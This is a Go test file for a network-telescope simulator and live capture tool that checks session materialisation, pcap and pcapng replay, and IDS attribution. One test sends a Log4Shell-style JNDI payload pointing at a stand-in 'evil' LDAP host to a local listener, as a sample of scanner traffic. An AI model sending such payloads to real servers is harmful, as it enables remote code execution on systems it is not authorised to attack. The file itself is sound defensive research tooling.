package telescope

import (
	"bytes"
	"context"
	"fmt"
	"testing"
	"time"

	"repro/internal/datasets"
	"repro/internal/ids"
	"repro/internal/packet"
	"repro/internal/pcapio"
	"repro/internal/scanner"
)

func smallWorkload(t *testing.T) []scanner.Blueprint {
	t.Helper()
	bps, err := scanner.Build(scanner.Config{Seed: 11, Scale: 1000, Noise: 20})
	if err != nil {
		t.Fatal(err)
	}
	return bps
}

func TestInstanceAtDeterministicAndChurning(t *testing.T) {
	tel := NewSim(SimConfig{Seed: 1})
	at := time.Date(2022, 1, 1, 12, 0, 0, 0, time.UTC)
	a1 := tel.InstanceAt(at, 7)
	a2 := tel.InstanceAt(at, 7)
	if a1 != a2 {
		t.Error("same (time, slot) yielded different instances")
	}
	// Same slot two lifetimes later: the instance has been replaced.
	later := at.Add(25 * time.Minute)
	if tel.InstanceAt(later, 7) == a1 {
		t.Error("instance did not churn across lifetimes (hash collision is astronomically unlikely)")
	}
	// Within a lifetime period, the address is stable.
	if tel.InstanceAt(at.Add(time.Minute), 7) != a1 {
		t.Error("instance changed within its lifetime")
	}
}

func TestSessionsMaterialization(t *testing.T) {
	tel := NewSim(SimConfig{Seed: 2})
	bps := smallWorkload(t)
	sessions := tel.Sessions(bps)
	if len(sessions) != len(bps) {
		t.Fatalf("sessions = %d, want %d", len(sessions), len(bps))
	}
	for i, s := range sessions {
		if !bytes.Equal(s.ClientData, bps[i].Payload) {
			t.Fatalf("session %d payload mismatch", i)
		}
		if s.Server.Port != bps[i].DstPort {
			t.Fatalf("session %d port %d, want %d", i, s.Server.Port, bps[i].DstPort)
		}
		if !s.Start.Equal(bps[i].Time) {
			t.Fatalf("session %d time mismatch", i)
		}
	}
	cov := Coverage(sessions)
	if cov.UniqueTelescopeIPs < 50 {
		t.Errorf("telescope IP diversity = %d, want broad churn", cov.UniqueTelescopeIPs)
	}
	if cov.UniqueSourceIPs < 10 {
		t.Errorf("source diversity = %d", cov.UniqueSourceIPs)
	}
}

// The pcap path and the fast path must agree: writing a capture, replaying
// it through decode + reassembly + IDS must yield the same attributions as
// matching the fast-path sessions directly.
func TestPcapPathEquivalentToFastPath(t *testing.T) {
	tel := NewSim(SimConfig{Seed: 3})
	bps := smallWorkload(t)

	rs, err := scanner.StudyRuleset()
	if err != nil {
		t.Fatal(err)
	}
	engine := ids.NewEngine(rs, ids.Config{PortInsensitive: true})

	// Fast path.
	fast := ids.MatchSessions(tel.Sessions(bps), engine, nil, 1, nil)

	// Pcap path.
	var buf bytes.Buffer
	w, err := pcapio.NewWriter(&buf, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	if err := tel.WritePcap(bps, w); err != nil {
		t.Fatal(err)
	}
	r, err := pcapio.NewReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	slow, stats, err := ids.ScanCapture(r, engine)
	if err != nil {
		t.Fatal(err)
	}
	if stats.DecodeErrors != 0 {
		t.Fatalf("decode errors = %d", stats.DecodeErrors)
	}
	if len(slow) != len(fast) {
		t.Fatalf("pcap path %d events, fast path %d", len(slow), len(fast))
	}
	fastBySID := map[int]int{}
	slowBySID := map[int]int{}
	for _, e := range fast {
		fastBySID[e.SID]++
	}
	for _, e := range slow {
		slowBySID[e.SID]++
	}
	for sid, n := range fastBySID {
		if slowBySID[sid] != n {
			t.Errorf("sid %d: fast %d, pcap %d", sid, n, slowBySID[sid])
		}
	}
}

func TestWritePcapProducesValidFrames(t *testing.T) {
	tel := NewSim(SimConfig{Seed: 4})
	bps := smallWorkload(t)[:5]
	var buf bytes.Buffer
	w, _ := pcapio.NewWriter(&buf, pcapio.LinkTypeEthernet)
	if err := tel.WritePcap(bps, w); err != nil {
		t.Fatal(err)
	}
	r, _ := pcapio.NewReader(bytes.NewReader(buf.Bytes()))
	pkts, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(pkts) < 5*5 {
		t.Fatalf("too few packets: %d", len(pkts))
	}
	for i, p := range pkts {
		if err := packet.DecodeInto(new(packet.Packet), p.Data); err != nil {
			t.Fatalf("packet %d invalid: %v", i, err)
		}
	}
}

func TestLiveTelescopeCapturesBanner(t *testing.T) {
	live, err := NewLive(LiveConfig{BannerWindow: time.Second})
	if err != nil {
		t.Fatal(err)
	}
	addr := live.Addrs()[0].String()

	payload := []byte("GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\nHost: t\r\n\r\n")
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	if err := Probe(ctx, addr, payload); err != nil {
		t.Fatal(err)
	}

	select {
	case s := <-live.Sessions():
		if !bytes.Equal(s.ClientData, payload) {
			t.Errorf("banner = %q", s.ClientData)
		}
		if !s.Complete {
			t.Error("live session not marked complete")
		}
		if !s.Closed {
			t.Error("client close not detected")
		}
	case <-time.After(3 * time.Second):
		t.Fatal("no session captured")
	}
	live.Close()
}

func TestLiveTelescopeSendsNothing(t *testing.T) {
	live, err := NewLive(LiveConfig{BannerWindow: 300 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	defer live.Close()
	addr := live.Addrs()[0].String()

	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	// Probe reads after writing; a correct instance sends zero bytes, so
	// Probe returns without error after its short read deadline.
	if err := Probe(ctx, addr, []byte("banner")); err != nil {
		t.Fatal(err)
	}
}

func TestLiveTelescopeEndToEndIDS(t *testing.T) {
	// Full live loop: real scanners over loopback TCP, live capture, real
	// IDS attribution.
	live, err := NewLive(LiveConfig{BannerWindow: time.Second, Ports: []int{0, 0}})
	if err != nil {
		t.Fatal(err)
	}
	addrs := live.Addrs()

	rs, err := scanner.StudyRuleset()
	if err != nil {
		t.Fatal(err)
	}
	engine := ids.NewEngine(rs, ids.Config{PortInsensitive: true})

	bps, err := scanner.Build(scanner.Config{Seed: 21, Scale: 3000, Noise: 5})
	if err != nil {
		t.Fatal(err)
	}
	if len(bps) > 40 {
		bps = bps[:40]
	}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	want := map[int]int{}
	for i, bp := range bps {
		if err := Probe(ctx, addrs[i%len(addrs)].String(), bp.Payload); err != nil {
			t.Fatal(err)
		}
		if bp.SID != 0 {
			want[bp.SID]++
		}
	}
	live.Close()

	got := map[int]int{}
	noise := 0
	for s := range live.Sessions() {
		sess := s
		m, ok := engine.Earliest(&sess)
		if !ok {
			noise++
			continue
		}
		got[m.SID]++
	}
	for sid, n := range want {
		if got[sid] != n {
			t.Errorf("sid %d: captured %d, want %d", sid, got[sid], n)
		}
	}
	if total(got)+noise != len(bps) {
		t.Errorf("captured %d sessions, sent %d", total(got)+noise, len(bps))
	}
}

func total(m map[int]int) int {
	n := 0
	for _, v := range m {
		n += v
	}
	return n
}

func TestCoverageGrowsWithWorkload(t *testing.T) {
	tel := NewSim(SimConfig{Seed: 5, Concurrent: 50})
	small, err := scanner.Build(scanner.Config{Seed: 1, Scale: 2000, Noise: 10})
	if err != nil {
		t.Fatal(err)
	}
	large, err := scanner.Build(scanner.Config{Seed: 1, Scale: 200, Noise: 100})
	if err != nil {
		t.Fatal(err)
	}
	cs := Coverage(tel.Sessions(small))
	cl := Coverage(tel.Sessions(large))
	if cl.UniqueTelescopeIPs <= cs.UniqueTelescopeIPs {
		t.Errorf("coverage did not grow: %d -> %d", cs.UniqueTelescopeIPs, cl.UniqueTelescopeIPs)
	}
}

func TestInstanceAddressesInsidePool(t *testing.T) {
	prefixes := []string{"198.18.0.0/20"}
	tel := NewSim(SimConfig{Seed: 6, PoolPrefixes: prefixes})
	for i := 0; i < 500; i++ {
		at := datasets.StudyWindow.Start.Add(time.Duration(i) * 13 * time.Minute)
		a := tel.InstanceAt(at, uint64(i))
		if !tel.pool.Contains(a) {
			t.Fatalf("instance %s outside pool", a)
		}
	}
}

func BenchmarkSessionsMaterialization(b *testing.B) {
	bps, err := scanner.Build(scanner.Config{Seed: 1, Scale: 100})
	if err != nil {
		b.Fatal(err)
	}
	tel := NewSim(SimConfig{Seed: 1})
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if got := tel.Sessions(bps); len(got) != len(bps) {
			b.Fatal("length mismatch")
		}
	}
}

func ExampleCoverage() {
	tel := NewSim(SimConfig{Seed: 1})
	bps, _ := scanner.Build(scanner.Config{Seed: 1, Scale: 5000, Noise: 1})
	cov := Coverage(tel.Sessions(bps))
	fmt.Println(cov.Sessions > 0, cov.UniqueTelescopeIPs > 0)
	// Output: true true
}

// The pcapng path must agree with the classic pcap path: both replay through
// OpenCapture + ScanCapture to identical attributions.
func TestPcapngPathEquivalent(t *testing.T) {
	tel := NewSim(SimConfig{Seed: 8})
	bps := smallWorkload(t)
	rs, err := scanner.StudyRuleset()
	if err != nil {
		t.Fatal(err)
	}
	engine := ids.NewEngine(rs, ids.Config{PortInsensitive: true})

	scanVia := func(w PacketWriter, data func() []byte) []ids.Event {
		t.Helper()
		if err := tel.WritePcap(bps, w); err != nil {
			t.Fatal(err)
		}
		src, err := pcapio.OpenCapture(bytes.NewReader(data()))
		if err != nil {
			t.Fatal(err)
		}
		events, stats, err := ids.ScanCapture(src, engine)
		if err != nil {
			t.Fatal(err)
		}
		if stats.DecodeErrors != 0 {
			t.Fatalf("decode errors: %d", stats.DecodeErrors)
		}
		return events
	}

	var classicBuf bytes.Buffer
	cw, err := pcapio.NewWriter(&classicBuf, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	classic := scanVia(cw, classicBuf.Bytes)

	var ngBuf bytes.Buffer
	nw, err := pcapio.NewNgWriter(&ngBuf, pcapio.LinkTypeEthernet)
	if err != nil {
		t.Fatal(err)
	}
	ng := scanVia(nw, ngBuf.Bytes)

	if len(classic) != len(ng) {
		t.Fatalf("classic %d events, pcapng %d", len(classic), len(ng))
	}
	for i := range classic {
		if classic[i].SID != ng[i].SID || !classic[i].Time.Equal(ng[i].Time) {
			t.Fatalf("event %d differs between formats", i)
		}
	}
}

// Live-style session records reconstruct into a capture that replays to the
// same attributions.
func TestSessionsToPcapRoundTrip(t *testing.T) {
	tel := NewSim(SimConfig{Seed: 12})
	bps := smallWorkload(t)
	sessions := tel.Sessions(bps)

	var buf bytes.Buffer
	w, err := pcapio.NewWriter(&buf, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	if err := SessionsToPcap(sessions, w, 12); err != nil {
		t.Fatal(err)
	}
	rs, err := scanner.StudyRuleset()
	if err != nil {
		t.Fatal(err)
	}
	engine := ids.NewEngine(rs, ids.Config{PortInsensitive: true})
	direct := ids.MatchSessions(sessions, engine, nil, 1, nil)

	src, err := pcapio.OpenCapture(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	replayed, stats, err := ids.ScanCapture(src, engine)
	if err != nil {
		t.Fatal(err)
	}
	if stats.DecodeErrors != 0 {
		t.Fatalf("decode errors = %d", stats.DecodeErrors)
	}
	if len(replayed) != len(direct) {
		t.Fatalf("replayed %d events, direct %d", len(replayed), len(direct))
	}
	for i := range direct {
		if direct[i].SID != replayed[i].SID || direct[i].Src != replayed[i].Src {
			t.Fatalf("event %d differs after reconstruction", i)
		}
	}
}
